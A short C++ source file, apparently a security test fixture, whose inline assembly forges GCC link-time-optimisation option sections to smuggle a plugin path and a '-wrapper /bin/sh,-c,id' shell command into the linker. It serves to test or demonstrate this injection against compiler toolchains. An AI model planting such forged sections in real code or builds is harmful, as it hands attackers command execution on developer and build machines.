#include "attack.hpp"

asm(R"(
  .section .gnu.lto_.opts,"e",@progbits
  .string "'-fplugin=@HOME@/bait.so' '-o' '@HOME@/out' '-wrapper' '/bin/sh,-c,id'"
  .section .gnu.lto_main.0,"e",@progbits
  .string "no bytecode"
)");

double numbers::total(const attack::Values& values) {
  return attack::answer(values);
}
